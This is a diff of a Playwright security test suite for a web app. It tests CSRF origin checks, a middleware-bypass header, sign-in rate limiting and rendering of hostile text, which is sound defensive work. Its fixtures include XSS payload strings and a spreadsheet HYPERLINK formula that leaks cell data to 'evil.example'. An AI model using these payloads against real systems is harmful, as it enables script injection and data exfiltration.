@@ -4,7 +4,7 @@
 // walk the API's one registry: vitest imports it, this spec reads the OpenAPI document the app
 // serves from it (route modules load only inside Next), so a new route is walked here without an
 // edit. How to call each validly is test/security/endpoints.ts.
-import { expect, test, type APIRequestContext } from '@playwright/test';
+import { expect, test, type APIRequestContext, type BrowserContext } from '@playwright/test';
 import { ROLES, scopeFor, SYSTEM, type Role } from '@/lib/auth';
 import { createUser, updateUser } from '@/lib/admin/users';
 import { append, SYSTEM_ACTOR } from '@/lib/audit';
@@ -21,13 +21,14 @@ import {
   routeEntries,
   routeKey,
   urlPath,
+  type CallSpec,
   type Operation,
   type RouteEntry,
 } from '../security/endpoints';
 import { EXPECTED_PERMISSIONS } from '../security/expected-permissions';
 import { ACTING, loadFixtures, unique, type Fixtures } from '../security/fixtures';
 import { builtActions, callAction } from '../security/server-actions';
-import { signInThroughForm, stateFile } from './helpers';
+import { as, signInNewUser, signInThroughForm } from './helpers';
 
 /** Every operation of the served OpenAPI document that names its permission (x-permission): the registry's. */
 async function servedOperations(): Promise<Operation[]> {
@@ -67,8 +68,9 @@ function allowed(role: Role, permission: string): boolean {
   return permission === 'authenticated' || scopeFor(role, permission as never) !== undefined;
 }
 
-async function send(request: APIRequestContext, e: RouteEntry, headers: Record<string, string>, body: string | undefined, spec: Parameters<typeof urlPath>[1]) {
-  return request.fetch(urlPath(e, spec), { method: e.method, headers, ...(body === undefined ? {} : { data: body }), maxRedirects: 0 });
+/** A route called as its entry says (its path and JSON body), with `headers`. */
+async function send(request: APIRequestContext, e: RouteEntry, spec: CallSpec, headers: Record<string, string>) {
+  return request.fetch(urlPath(e, spec), { method: e.method, headers, data: JSON.stringify(spec.body ?? {}), maxRedirects: 0 });
 }
 
 test.describe('the served document', () => {
@@ -81,7 +83,7 @@ test.describe('the served document', () => {
 
 test.describe('ingest routes', () => {
   const ingest = SERVED.filter((o) => o.permission === 'ingest-token');
-  test.use({ storageState: stateFile(ACTING.admin) });
+  test.use(as(ACTING.admin));
 
   test("take an ingest token only: an admin's session or personal token is refused, nothing stored", async ({ request, playwright, baseURL }) => {
     expect(ingest.length, 'ingest operations in the served document').toBeGreaterThan(0);
@@ -105,7 +107,7 @@ test.describe('ingest routes', () => {
 });
 
 test.describe('cross-site requests carrying the session cookie', () => {
-  test.use({ storageState: stateFile(ACTING.admin) });
+  test.use(as(ACTING.admin));
 
   for (const e of MUTATING) {
     test(`${routeKey(e)} is refused from Origin evil, null and none; the same call from the app goes through`, async ({ request, baseURL }) => {
@@ -114,14 +116,14 @@ test.describe('cross-site requests carrying the session cookie', () => {
         const spec = await e.call(fx, admin);
         const before = await auditCount(admin.email);
         // text/plain: the content type a cross-site form or fetch can send without a preflight.
-        const res = await send(request, e, { 'content-type': 'text/plain', ...(origin ? { origin } : {}) }, JSON.stringify(spec.body ?? {}), spec);
+        const res = await send(request, e, spec, { 'content-type': 'text/plain', ...(origin ? { origin } : {}) });
         expect(res.status(), `Origin ${origin ?? '(none)'}`).toBe(403);
         expect(await auditCount(admin.email)).toBe(before);
       }
       // The same call from the app's own origin passes the guard (it may still meet a domain rule,
       // e.g. a redrive the worker already finished): the refusals above were about the origin.
       const spec = await e.call(fx, admin);
-      const ok = await send(request, e, { 'content-type': 'application/json', origin: baseURL! }, JSON.stringify(spec.body ?? {}), spec);
+      const ok = await send(request, e, spec, { 'content-type': 'application/json', origin: baseURL! });
       expect([401, 403]).not.toContain(ok.status());
     });
   }
@@ -131,13 +133,7 @@ test.describe('cross-site requests carrying the session cookie', () => {
     const api = await playwright.request.newContext({ baseURL, storageState: { cookies: [], origins: [] } });
     for (const e of MUTATING) {
       const spec = await e.call(fx, admin);
-      const res = await send(
-        api,
-        e,
-        { 'content-type': 'application/json', origin: 'http://evil.example', authorization: `Bearer ${admin.token}` },
-        JSON.stringify(spec.body ?? {}),
-        spec,
-      );
+      const res = await send(api, e, spec, { 'content-type': 'application/json', origin: 'http://evil.example', authorization: `Bearer ${admin.token}` });
       expect([401, 403], routeKey(e)).not.toContain(res.status());
     }
     await api.dispose();
@@ -157,7 +153,7 @@ test.describe('server actions', () => {
       const verdict = allowed(role, a.permission) ? 'allowed' : 'refused';
       test(`${role} ${actionLabel(a)}: ${verdict}`, async ({ browser, baseURL }) => {
         const action = built().get(actionKey(a))!;
-        const context = await browser.newContext({ storageState: stateFile(ACTING[role]) });
+        const context = await browser.newContext(as(ACTING[role]));
         const fields = await a.form(fx, fx.users[ACTING[role]]!);
         const before = await auditCount(ACTING[role]);
         const out = await callAction(context.request, action, fields, baseURL!);
@@ -177,7 +173,7 @@ test.describe('server actions', () => {
 
     test(`${actionLabel(a)}: refused from Origin evil, null and none`, async ({ browser }) => {
       const action = built().get(actionKey(a))!;
-      const context = await browser.newContext({ storageState: stateFile(ACTING.admin) });
+      const context = await browser.newContext(as(ACTING.admin));
       for (const origin of ['http://evil.example', 'null', null]) {
         const fields = await a.form(fx, fx.users[ACTING.admin]!);
         const before = await auditCount(ACTING.admin);
@@ -193,13 +189,13 @@ test.describe('server actions', () => {
 });
 
 test.describe('the x-middleware-subrequest bypass', () => {
-  test.use({ storageState: stateFile(ACTING.support) });
+  test.use(as(ACTING.support));
 
   test('changes nothing for route handlers, pages or anonymous callers', async ({ request, page, baseURL, playwright }) => {
     const support = fx.users[ACTING.support]!;
     for (const e of MUTATING.filter((r) => !allowed('support', r.permission))) {
       const spec = await e.call(fx, support);
-      const res = await send(request, e, { 'content-type': 'application/json', origin: baseURL!, ...BYPASS }, JSON.stringify(spec.body ?? {}), spec);
+      const res = await send(request, e, spec, { 'content-type': 'application/json', origin: baseURL!, ...BYPASS });
       expect(res.status(), routeKey(e)).toBe(403);
     }
     await page.setExtraHTTPHeaders(BYPASS);
@@ -208,7 +204,7 @@ test.describe('the x-middleware-subrequest bypass', () => {
     const anonymous = await playwright.request.newContext({ baseURL, storageState: { cookies: [], origins: [] } });
     for (const e of MUTATING) {
       const spec = await e.call(fx, support);
-      const res = await send(anonymous, e, { 'content-type': 'application/json', origin: baseURL!, ...BYPASS }, JSON.stringify(spec.body ?? {}), spec);
+      const res = await send(anonymous, e, spec, { 'content-type': 'application/json', origin: baseURL!, ...BYPASS });
       expect(res.status(), routeKey(e)).toBe(401);
     }
     await anonymous.dispose();
@@ -243,9 +239,7 @@ test.describe('sessions', () => {
   });
 
   test('a demotion applies on the next request; disabling a user ends the session', async ({ browser }) => {
-    const email = `${unique('demote')}@triage.local`;
-    const user = await createUser(SYSTEM, { email, role: 'admin', password: 'demote-password' });
-    const { context, page } = await signInThroughForm(browser, email, 'demote-password');
+    const { user, context, page } = await signInNewUser(browser, 'demote', 'admin');
     await expect(page).toHaveURL(/\/admin$/);
     expect((await context.request.get('/api/v1/users')).status()).toBe(200);
 
@@ -268,41 +262,39 @@ test.describe('sessions', () => {
     const other = `${unique('other')}@triage.local`;
     await createUser(SYSTEM, { email: victim, role: 'support', team: 'commerce', password });
     await createUser(SYSTEM, { email: other, role: 'support', team: 'commerce', password });
-    const attempt = async (page: import('@playwright/test').Page, email: string, pw: string) => {
-      await page.goto('/sign-in');
-      await page.getByLabel('E-mail').fill(email);
-      await page.getByLabel('Password').fill(pw);
-      await page.getByRole('button', { name: 'Sign in' }).click();
+    const wrong = 'Wrong e-mail or password.';
+    const tooMany = 'Too many sign-in attempts. Wait a few minutes and try again.';
+    const contexts: BrowserContext[] = [];
+    /** A client at `ip` (the X-Forwarded-For the app trusts); `attempt` signs in on its page and answers the form's alert. */
+    const clientAt = async (ip: string) => {
+      const context = await browser.newContext({ extraHTTPHeaders: { 'x-forwarded-for': ip } });
+      contexts.push(context);
+      const page = await context.newPage();
+      const attempt = async (email: string, pw: string) => {
+        await page.goto('/sign-in');
+        await page.getByLabel('E-mail').fill(email);
+        await page.getByLabel('Password').fill(pw);
+        await page.getByRole('button', { name: 'Sign in' }).click();
+        return page.locator('form').getByRole('alert');
+      };
+      return { page, attempt };
     };
 
     // Per e-mail: failures from one address lock the account out from every address.
-    const a = await browser.newContext({ extraHTTPHeaders: { 'x-forwarded-for': '198.51.100.7' } });
-    const pa = await a.newPage();
-    for (let i = 0; i < max; i++) {
-      await attempt(pa, victim, 'wrong-password');
-      await expect(pa.locator('form').getByRole('alert')).toHaveText('Wrong e-mail or password.');
-    }
-    await attempt(pa, victim, password);
-    await expect(pa.locator('form').getByRole('alert')).toHaveText('Too many sign-in attempts. Wait a few minutes and try again.');
-    const b = await browser.newContext({ extraHTTPHeaders: { 'x-forwarded-for': '203.0.113.9' } });
-    const pb = await b.newPage();
-    await attempt(pb, victim, password);
-    await expect(pb.locator('form').getByRole('alert')).toHaveText('Too many sign-in attempts. Wait a few minutes and try again.');
+    const a = await clientAt('198.51.100.7');
+    for (let i = 0; i < max; i++) await expect(await a.attempt(victim, 'wrong-password')).toHaveText(wrong);
+    await expect(await a.attempt(victim, password)).toHaveText(tooMany);
+    const b = await clientAt('203.0.113.9');
+    await expect(await b.attempt(victim, password)).toHaveText(tooMany);
 
     // Per address: failures on many e-mails from one address stop that address, not the others.
-    const c = await browser.newContext({ extraHTTPHeaders: { 'x-forwarded-for': '192.0.2.77' } });
-    const pc = await c.newPage();
-    for (let i = 0; i < max; i++) {
-      await attempt(pc, `${unique('nobody')}@triage.local`, 'wrong-password');
-      await expect(pc.locator('form').getByRole('alert')).toHaveText('Wrong e-mail or password.');
-    }
-    await attempt(pc, other, password);
-    await expect(pc.locator('form').getByRole('alert')).toHaveText('Too many sign-in attempts. Wait a few minutes and try again.');
-    const d = await browser.newContext({ extraHTTPHeaders: { 'x-forwarded-for': '203.0.113.50' } });
-    const pd = await d.newPage();
-    await attempt(pd, other, password);
-    await expect(pd).toHaveURL(/\/inbox$/);
-    for (const ctx of [a, b, c, d]) await ctx.close();
+    const c = await clientAt('192.0.2.77');
+    for (let i = 0; i < max; i++) await expect(await c.attempt(`${unique('nobody')}@triage.local`, 'wrong-password')).toHaveText(wrong);
+    await expect(await c.attempt(other, password)).toHaveText(tooMany);
+    const d = await clientAt('203.0.113.50');
+    await d.attempt(other, password);
+    await expect(d.page).toHaveURL(/\/inbox$/);
+    for (const context of contexts) await context.close();
   });
 });
 
@@ -366,7 +358,7 @@ test.describe('headers', () => {
 });
 
 test.describe('hostile text renders inert', () => {
-  test.use({ storageState: stateFile(ACTING.auditor) });
+  test.use(as(ACTING.auditor));
   const TARGET = unique('hostile');
   const html = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>';
   const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
@@ -414,7 +406,7 @@ test.describe('hostile text renders inert', () => {
 });
 
 test.describe('a hostile dead letter renders inert', () => {
-  test.use({ storageState: stateFile(ACTING.support) });
+  test.use(as(ACTING.support));
   const script = '<script>window.__xss=3</script><img src=x onerror="window.__xss=4">';
   const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
   let id = '';
